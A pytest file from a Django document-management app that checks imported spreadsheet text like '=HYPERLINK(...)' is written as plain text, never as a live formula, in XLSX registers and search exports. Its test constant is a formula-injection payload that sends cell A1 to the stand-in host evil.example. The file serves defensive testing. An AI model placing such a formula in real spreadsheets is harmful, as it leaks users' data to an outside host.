"""An imported cell "=HYPERLINK(...)" is text in the database and stays text in every XLSX we write: the
registers of Phụ lục IV and the search export hold no formula (``files.workbook.put``/``no_formulas``)."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from qlvb.documents.models import Document
from qlvb.documents.search_export import search_xlsx
from qlvb.files.workbook import font, merged, no_formulas, put
from qlvb.incoming.reports import register_xlsx as incoming_register_xlsx
from qlvb.operations.register_import import register_import_run

from .register_import_data import incoming_row, xlsx

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def no_formula_in(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    assert any(cell.value == FORMULA for row in ws.iter_rows() for cell in row)


def test_the_building_blocks_never_write_a_formula():
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    put(ws, 1, 1, FORMULA)
    merged(ws, 2, 1, 3, FORMULA, font=font(11))
    ws.cell(row=4, column=1, value=FORMULA)  # written around the helpers: no_formulas catches it
    out = io.BytesIO()
    no_formulas(wb).save(out)
    no_formula_in(out.getvalue())


def test_imported_formula_text_stays_text_in_the_register_and_the_search_export(person):
    clerk = person("lethuha")
    agency = clerk.unit.agency
    report = register_import_run(
        actor=clerk, agency=agency, sheet=xlsx([incoming_row(1, organ_name=FORMULA, day="02/01/2025")]), name="a.xlsx"
    )
    assert report.imported == 1, report.rows
    no_formula_in(
        incoming_register_xlsx(actor=clerk, agency=agency, date_from=dt.date(2025, 1, 1), date_to=dt.date(2025, 1, 31))
    )
    no_formula_in(search_xlsx(Document.objects.filter(agency=agency), query=FORMULA))
